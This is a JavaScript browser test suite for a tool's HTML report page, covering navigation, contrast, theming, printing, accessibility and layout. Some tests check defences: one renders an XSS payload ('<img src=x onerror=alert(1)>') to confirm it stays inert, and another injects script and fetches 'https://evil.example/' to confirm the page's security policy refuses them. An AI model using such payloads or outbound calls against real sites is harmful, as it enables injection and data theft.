// The page of `rollout render --format html`, used as a reviewer does.

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath, pathToFileURL } from 'node:url';

import { start } from './chromium.mjs';
import { ATTACKS, hostile, large } from './repositories.mjs';

const root = resolve(fileURLToPath(import.meta.url), '../../..');
const kept = join(root, 'target/browser');
const pages = {};
let browser;
let folder;

/** The page of a folder with `before` and `after`. */
async function render(name, repository) {
  const options = ['render', 'after', '--base-dir', 'before', '--format', 'html', '--fail-on', 'never'];
  const page = execFileSync(process.env.ROLLOUT, options, { cwd: repository, stdio: ['ignore', 'pipe', 'ignore'], maxBuffer: 1 << 28 });
  const path = join(folder, `${name}.html`);
  await writeFile(path, page);
  pages[name] = { url: pathToFileURL(path).href, size: page.length };
}

before(async () => {
  folder = await mkdtemp(join(tmpdir(), 'rollout-pages-'));
  await mkdir(kept, { recursive: true });
  await large(join(folder, 'large'));
  await hostile(join(folder, 'hostile'));
  await render('five', join(root, 'examples/httproute-five-steps'));
  await render('matches', join(root, 'examples/nginx-ab'));
  await render('large', join(folder, 'large'));
  await render('hostile', join(folder, 'hostile'));
  browser = await start();
});

after(async () => {
  await browser?.close();
  await rm(folder, { recursive: true, force: true });
});

/** Runs `work` on a page, which must not complain or ask for anything. */
async function on(name, options, work) {
  const page = await browser.open(pages[name].url, options);
  try {
    await work(page);
    assert.deepEqual(page.heard, [], `${name} is quiet`);
  } finally {
    await page.close();
  }
}

const keep = async (name, page, isWhole) => writeFile(join(kept, `${name}.png`), await page.screenshot(isWhole));

/** What a reviewer sees of the first release: the step, and the marks in chart and table. */
const seen = () => {
  const article = document.querySelector('.release');
  const shown = [...article.querySelectorAll('.step')].filter((step) => step.checkVisibility());
  return {
    steps: shown.map((step) => step.querySelector('h3').textContent),
    isOpen: shown.every((step) => step.open),
    value: article.querySelector('input[type="range"]').value,
    said: article.querySelector('input[type="range"]').getAttribute('aria-valuetext').split(':')[0],
    column: article.querySelector('.stop.current .name').textContent,
    row: article.querySelector('tr[aria-current="step"] th').textContent,
  };
};

const stepAt = (names, index) => ({
  steps: [names[index]], isOpen: true, value: String(index + 1), said: names[index], column: names[index], row: names[index],
});
const FIVE = ['step-1', 'step-2', 'step-3', 'step-4', 'step-5', 'finish'];

test('every step is reached by mouse: buttons, columns of the chart, rows of the table', () =>
  on('five', {}, async (page) => {
    assert.deepEqual(await page.evaluate(seen), stepAt(FIVE, 0));
    for (let index = 1; index < FIVE.length; index += 1) {
      await page.click('.player button', 1);
      assert.deepEqual(await page.evaluate(seen), stepAt(FIVE, index));
    }
    assert.deepEqual(await page.evaluate(() => [...document.querySelectorAll('.player button')].map((button) => button.disabled)), [false, true]);
    await page.click('.player button', 0);
    assert.deepEqual(await page.evaluate(seen), stepAt(FIVE, 4));
    for (const index of [2, 0, 5]) {
      await page.click(`.stop[data-stop="${index + 1}"] .hit`);
      assert.deepEqual(await page.evaluate(seen), stepAt(FIVE, index));
    }
    for (const index of [3, 1]) {
      await page.click('.steps tbody a', index);
      await page.until((index) => document.querySelector('.player input').value === String(index + 1), index);
      assert.deepEqual(await page.evaluate(seen), stepAt(FIVE, index));
    }
  }));

test('every step is reached by keyboard, and the focus is seen', () =>
  on('five', {}, async (page) => {
    const focused = () => page.evaluate(() => document.activeElement.matches('input[type="range"]'));
    for (let presses = 0; presses < 40 && !(await focused()); presses += 1) await page.press('Tab');
    assert.ok(await focused(), 'the slider is reached with Tab');
    const outline = () => page.evaluate(() => parseFloat(getComputedStyle(document.activeElement).outlineWidth));
    assert.ok((await outline()) >= 2, 'the focus is seen');
    for (const [key, index] of [['ArrowRight', 1], ['ArrowUp', 2], ['ArrowLeft', 1], ['End', 5], ['Home', 0], ['ArrowLeft', 0]]) {
      await page.press(key);
      assert.deepEqual(await page.evaluate(seen), stepAt(FIVE, index), key);
    }
    // On to the choices: the radio buttons by arrow, the box by space.
    await page.press('Tab');
    await page.press('Tab');
    assert.equal(await page.evaluate(() => document.activeElement.value), 'before');
    await page.press('ArrowDown');
    assert.equal(await page.evaluate(() => document.activeElement.value), 'baseline');
    await page.press('Tab');
    await page.press('Space');
    assert.equal(await page.evaluate(() => document.querySelector('.step .computed').hidden), false);
    assert.ok((await outline()) >= 2, 'the focus is seen');
  }));

test('a link to a step opens it', () =>
  on('five', {}, async (page) => {
    await page.click('.player button', 1);
    const hash = await page.evaluate(() => location.hash);
    assert.equal(hash, '#prod.shop~step-2');
    const other = await browser.open(pages.five.url + '#prod.shop~step-4');
    assert.deepEqual(await other.evaluate(seen), stepAt(FIVE, 3));
    await other.close();
  }));

/** The sides of every object shown, as texts; those of each step, from Rust or from the script. */
const sides = (where) =>
  [...document.querySelectorAll('.release')].flatMap((article) =>
    [...article.querySelectorAll(`.step:not([hidden]) ${where} .object`)].map((object) => {
      const rows = [...object.querySelectorAll('tbody tr:not(.gap)')];
      const isOne = object.querySelector('.diff').classList.contains('one');
      const side = (number, text) => rows.filter((row) => row.cells[number].textContent).map((row) => `${row.cells[number].textContent} ${row.cells[text].textContent}`);
      return {
        name: object.querySelector('.object-name').textContent,
        badge: object.querySelector('.badge').textContent,
        before: side(0, 1),
        after: isOne ? [] : side(2, 3),
        gaps: [...object.querySelectorAll('.gap')].map((gap) => gap.textContent),
        marks: [...object.querySelectorAll('del, ins')].map((mark) => mark.textContent),
      };
    }),
  );

for (const name of ['five', 'matches', 'hostile']) {
  test(`the script compares as the program does: ${name}`, () =>
    on(name, {}, async (page) => {
      // In the first step, the step before is the baseline.
      const given = await page.evaluate(sides, '.given');
      assert.ok(given.length > 0);
      await page.evaluate(() => document.querySelectorAll('.player input[value="baseline"]').forEach((input) => input.click()));
      assert.deepEqual(await page.evaluate(sides, '.computed'), given);
    }));

  test(`the script marks what the program marks, in every step: ${name}`, () =>
    on(name, {}, async (page) => {
      const steps = await page.evaluate(() => Math.max(...[...document.querySelectorAll('.player input[type="range"]')].map((range) => range.max)));
      await page.evaluate(() => document.querySelectorAll('.player input[type="checkbox"]').forEach((input) => input.click()));
      let compared = 0;
      const marks = (objects) => objects.filter(({ badge }) => badge !== 'unchanged').map(({ name, badge, marks }) => ({ name, badge, marks }));
      for (let step = 1; step <= steps; step += 1) {
        await page.evaluate((step) => document.querySelectorAll('.player input[type="range"]').forEach((range) => {
          range.value = step;
          range.dispatchEvent(new Event('input'));
        }), step);
        const given = marks(await page.evaluate(sides, '.given'));
        assert.deepEqual(marks(await page.evaluate(sides, '.computed')), given, `step ${step}`);
        compared += given.flatMap(({ marks }) => marks).length;
      }
      assert.ok(compared > 2, `${compared} marks`);
    }));

  test(`whole manifests are those of the plan, on both sides: ${name}`, () =>
    on(name, {}, async (page) => {
      const wrong = await page.evaluate(() => {
        const wrong = [];
        let compared = 0;
        for (const article of document.querySelectorAll('.release')) {
          const data = JSON.parse(article.querySelector('script').textContent);
          const find = (selector) => article.querySelector(selector);
          find('.player input[type="checkbox"]').click();
          for (const compareWith of ['before', 'baseline']) {
            find(`.player input[value="${compareWith}"]`).click();
            for (let step = 1; step < data.stops.length; step += 1) {
              const range = find('.player input[type="range"]');
              range.value = step;
              range.dispatchEvent(new Event('input'));
              const from = compareWith === 'before' ? step - 1 : 0;
              for (const object of article.querySelectorAll('.step:not([hidden]) .computed .object')) {
                const { versions, at, name } = data.objects.find((one) => one.name === object.querySelector('.object-name').textContent);
                const rows = [...object.querySelectorAll('tbody tr')];
                const text = (number) => rows.filter((row) => row.cells[number]?.textContent).map((row) => row.cells[number + 1].textContent).join('\n');
                const expected = [at[from], at[step]].map((version) => (version < 0 ? '' : versions[version].join('\n')));
                const isTwo = at[from] >= 0 && at[step] >= 0 && at[from] !== at[step];
                const actual = isTwo ? [text(0), text(2)] : [at[from] < 0 ? '' : text(0), at[step] < 0 ? '' : text(0)];
                compared += 1;
                if (actual.join('\0') !== expected.join('\0')) wrong.push(`${name} ${from} to ${step}`);
              }
            }
          }
        }
        return compared > 20 ? wrong : [`only ${compared} were compared`];
      });
      assert.deepEqual(wrong, []);
    }));
}

/** The text with the least contrast to what lies behind it. */
const leastContrast = () => {
  const canvas = document.createElement('canvas').getContext('2d', { willReadFrequently: true });
  const parsed = (color) => {
    canvas.clearRect(0, 0, 1, 1);
    canvas.fillStyle = color;
    canvas.fillRect(0, 0, 1, 1);
    const [red, green, blue, alpha] = canvas.getImageData(0, 0, 1, 1).data;
    return { rgb: [red, green, blue], alpha: alpha / 255 };
  };
  const luminance = (rgb) => {
    const [red, green, blue] = rgb.map((part) => part / 255).map((part) => (part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4));
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue;
  };
  const behind = (element) => {
    for (let at = element; at; at = at.parentElement) {
      const { rgb, alpha } = parsed(getComputedStyle(at).backgroundColor);
      if (alpha === 1) return rgb;
    }
    return [255, 255, 255];
  };
  let least = { ratio: 21 };
  let count = 0;
  const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (texts.nextNode()) {
    const element = texts.currentNode.parentElement;
    if (!texts.currentNode.data.trim() || element.closest('script, style, .skip, button:disabled') || !element.checkVisibility()) continue;
    const isDrawn = Boolean(element.closest('svg'));
    const style = getComputedStyle(element);
    const chosen = element.closest('.stop.current')?.querySelector('.hit');
    const back = chosen ? parsed(getComputedStyle(chosen).fill).rgb : behind(element.closest('svg') ?? element);
    const [one, other] = [luminance(parsed(isDrawn ? style.fill : style.color).rgb), luminance(back)];
    const ratio = (Math.max(one, other) + 0.05) / (Math.min(one, other) + 0.05);
    count += 1;
    if (ratio < least.ratio) least = { ratio, text: texts.currentNode.data.slice(0, 40), element: element.outerHTML.slice(0, 80) };
  }
  return { ...least, count };
};

for (const scheme of ['light', 'dark']) {
  test(`all text stands out in ${scheme} colors`, () =>
    on('hostile', { media: { 'prefers-color-scheme': scheme } }, async (page) => {
      await page.evaluate(() => document.querySelectorAll('details').forEach((details) => (details.open = true)));
      const least = await page.evaluate(leastContrast);
      assert.ok(least.count > 200, `${least.count} texts`);
      assert.ok(least.ratio >= 4.5, JSON.stringify(least));
      await keep(`hostile-${scheme}`, page);
    }));
}

test('colors follow the system until the reader chooses, and then stay', () =>
  on('five', { media: { 'prefers-color-scheme': 'dark' } }, async (page) => {
    const state = () => page.evaluate(() => {
      const brightness = Number(getComputedStyle(document.body).backgroundColor.match(/\d+/)[0]);
      return [brightness < 80, document.querySelector('.theme').textContent];
    });
    const [dark, light] = [[true, 'Use light colors'], [false, 'Use dark colors']];
    assert.deepEqual(await state(), dark);
    await keep('five-dark', page, true);
    await page.emulate({ 'prefers-color-scheme': 'light' });
    await page.settled();
    assert.deepEqual(await state(), light);
    await page.click('.theme');
    assert.deepEqual(await state(), dark);
    await page.reload();
    assert.deepEqual(await state(), dark);
    await page.click('.theme');
    assert.deepEqual(await state(), light);
    await page.evaluate(() => localStorage.clear());
  }));

test('motion is left out for those who do not want it', () =>
  on('five', {}, async (page) => {
    const moving = () => page.evaluate(() => {
      const all = [...document.querySelectorAll('*')].map((element) => getComputedStyle(element));
      return all.filter((style) => style.scrollBehavior === 'smooth' || style.transitionDuration !== '0s' || style.animationName !== 'none').length;
    });
    assert.equal(await moving(), 0);
    await page.emulate({ 'prefers-reduced-motion': 'no-preference' });
    assert.ok((await moving()) > 0, 'there is motion to leave out');
  }));

test('on paper everything is unfolded, in light colors, and nothing is left to press', () =>
  on('five', { media: { 'prefers-color-scheme': 'dark' } }, async (page) => {
    const { data } = await page.call('Page.printToPDF', { printBackground: true });
    const paper = Buffer.from(data, 'base64');
    await writeFile(join(kept, 'five.pdf'), paper);
    assert.ok(paper.toString('latin1').match(/\/Type\s*\/Page\b/g).length > 1);
    await page.emulate({ type: 'print', 'prefers-color-scheme': 'dark' });
    const printed = await page.evaluate(() => ({
      hidden: [...document.querySelectorAll('details')].filter((details) => details.getBoundingClientRect().height === 0).length,
      cells: [...document.querySelectorAll('.given .diff tbody td, .back .diff tbody td, .made td')].filter((cell) => !cell.checkVisibility({ contentVisibilityAuto: true }) || cell.getBoundingClientRect().height === 0).length,
      count: document.querySelectorAll('.given .diff tbody td').length,
      pressed: [...document.querySelectorAll('button, input')].filter((element) => element.checkVisibility()).length,
      ink: getComputedStyle(document.body).color,
    }));
    assert.ok(printed.count > 100);
    assert.deepEqual({ ...printed, count: 0 }, { hidden: 0, cells: 0, count: 0, pressed: 0, ink: 'rgb(28, 29, 31)' });
  }));

test('without its script the page tells everything, folded by step', () =>
  on('five', { isScripted: false }, async (page) => {
    // The protocol may still look; the page's own script never ran.
    const look = () => page.evaluate(() => ({
      scripted: document.documentElement.classList.contains('scripted'),
      summaries: [...document.querySelectorAll('.step > summary, .back > summary')].filter((summary) => summary.checkVisibility()).length,
      open: [...document.querySelectorAll('.step')].map((step) => step.open),
      pressed: [...document.querySelectorAll('button, input')].filter((element) => element.checkVisibility()).length,
      isShown: document.querySelector('.step .given td').checkVisibility(),
    }));
    const nothing = [false, false, false, false, false, false];
    assert.deepEqual(await look(), { scripted: false, summaries: 7, open: nothing, pressed: 0, isShown: false });
    await page.click('.step > summary', 0);
    assert.deepEqual(await look(), { scripted: false, summaries: 7, open: [true, ...nothing.slice(1)], pressed: 0, isShown: true });
    await keep('five-without-script', page, true);
    await page.emulate({ type: 'print' });
    assert.ok(await page.evaluate(() => [...document.querySelectorAll('.given td')].every((cell) => cell.checkVisibility())));
  }));

test('hostile texts are shown and do nothing', () =>
  on('hostile', {}, async (page) => {
    const said = await page.evaluate(() => document.querySelector('.findings').innerText);
    for (const part of [ATTACKS[0], '<img src=x onerror=alert(1)>']) assert.ok(said.includes(part), part);
    await page.evaluate(() => {
      document.querySelectorAll('details').forEach((details) => (details.open = true));
      document.querySelectorAll('.player input[type="checkbox"]').forEach((input) => input.click());
      document.querySelectorAll('.player input[type="range"]').forEach((range) => {
        for (let step = Number(range.max); step > 0; step -= 1) {
          range.value = step;
          range.dispatchEvent(new Event('input'));
        }
      });
    });
    await page.settled();
    const found = await page.evaluate(() => ({
      injected: window.injected ?? 0,
      strangers: document.querySelectorAll('img, iframe, object, embed, form, base, svg[onload], [onerror], [style]:not(input)').length,
      styles: document.querySelectorAll('style').length,
      scripts: document.querySelectorAll('script').length - document.querySelectorAll('.release').length,
      releases: [...document.querySelectorAll('.release h2')].map((title) => title.textContent),
      controls: /[\u0000-\u0008\u200e\u200f\u2028-\u202e]/.test(document.documentElement.outerHTML),
    }));
    assert.deepEqual(found, {
      injected: 0, strangers: 0, styles: 1, scripts: 1, controls: false, releases: ['eu: prod/shop', 'us: prod/shop'],
    });
    const text = await page.evaluate(() => document.body.innerText);
    for (const attack of ATTACKS.slice(0, 8)) assert.ok(text.includes(attack.slice(0, 20)), attack);
  }));

test('what the policy forbids is forbidden', () =>
  on('five', {}, async (page) => {
    const isRun = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.injected = true';
      document.body.append(script);
      const style = document.createElement('style');
      style.textContent = 'body { color: red }';
      document.head.append(style);
      const answer = await fetch('https://evil.example/').then(() => 'sent', () => 'refused');
      return [window.injected ?? false, getComputedStyle(document.body).color === 'rgb(255, 0, 0)', answer];
    });
    assert.deepEqual(isRun, [false, false, 'refused']);
    assert.ok(page.heard.some((line) => line.includes('Content Security Policy')), page.heard.join('\n'));
    page.heard.length = 0;
  }));

test('assistive technology finds its way', () =>
  on('hostile', {}, async (page) => {
    const { nodes } = await page.call('Accessibility.getFullAXTree');
    const heard = nodes.filter((node) => !node.ignored);
    const roles = (role) => heard.filter((node) => node.role?.value === role);
    for (const role of ['banner', 'navigation', 'main', 'contentinfo']) assert.equal(roles(role).length, 1, role);
    assert.equal(roles('slider').length, 2);
    const controls = ['slider', 'button', 'link', 'radio', 'checkbox', 'image', 'article', 'navigation'].flatMap(roles);
    assert.deepEqual(controls.filter((node) => !node.name?.value).map((node) => node.role.value), [], 'everything has a name');
    const outline = await page.evaluate(() => {
      const levels = [...document.querySelectorAll('h1, h2, h3')].map((heading) => Number(heading.tagName[1]));
      const ids = [...document.querySelectorAll('[id]')].map((element) => element.id);
      return {
        first: levels[0],
        ones: levels.filter((level) => level === 1).length,
        leaps: levels.filter((level, index) => index > 0 && level > levels[index - 1] + 1).length,
        twice: ids.filter((id, index) => ids.indexOf(id) !== index),
        lost: [...document.querySelectorAll('a[href^="#"]')].filter((link) => !document.getElementById(link.getAttribute('href').slice(1))).length,
        language: document.documentElement.lang,
      };
    });
    assert.deepEqual(outline, { first: 1, ones: 1, leaps: 0, twice: [], lost: 0, language: 'en' });
  }));

test('twenty Rollouts of ten steps are one page of reasonable size, with a list to go by', () =>
  on('large', {}, async (page) => {
    assert.ok(pages.large.size < 3_000_000, `${pages.large.size} bytes`);
    assert.equal(await page.evaluate(() => document.querySelectorAll('nav a').length), 20);
    await page.click('nav a', 13);
    const arrived = () => {
      const { top } = document.querySelectorAll('.release')[13].getBoundingClientRect();
      return Math.abs(top) < 60 && document.querySelector('nav a[aria-current]')?.hash === location.hash;
    };
    await page.until(arrived);
    await keep('large', page);
  }));

for (const width of [320, 600, 1024]) {
  test(`a window of ${width} pixels needs no scrolling sideways`, () =>
    on('hostile', { width, height: 800 }, async (page) => {
      await page.evaluate(() => document.querySelectorAll('details').forEach((details) => (details.open = true)));
      const wide = await page.evaluate(() => {
        const isOutside = (element) => element.getBoundingClientRect().right > innerWidth + 1 && !element.closest('.scroll, .skip, .defs');
        const outside = [...document.querySelectorAll('body *')].filter(isOutside).map((element) => element.outerHTML.slice(0, 100));
        return document.documentElement.scrollWidth > innerWidth ? ['the page', ...outside] : outside;
      });
      assert.deepEqual(wide.slice(0, 3), []);
      const narrow = await page.evaluate(() => {
        const texts = [...document.querySelectorAll('.diff tbody td:nth-child(even)')].filter((cell) => cell.checkVisibility() && cell.textContent);
        return { count: texts.length, least: Math.min(...texts.map((cell) => cell.getBoundingClientRect().width)) };
      });
      assert.ok(narrow.count > 100 && narrow.least > 180, JSON.stringify(narrow));
      await keep(`hostile-${width}`, page);
    }));
}

test('pictures for people to look at', async () => {
  for (const name of ['five', 'matches']) await on(name, {}, (page) => keep(name, page, true));
  await on('five', { height: 1200 }, async (page) => {
    await page.click('.player button', 1);
    await page.click('.player input[value="baseline"]');
    await keep('five-baseline', page, true);
  });
});
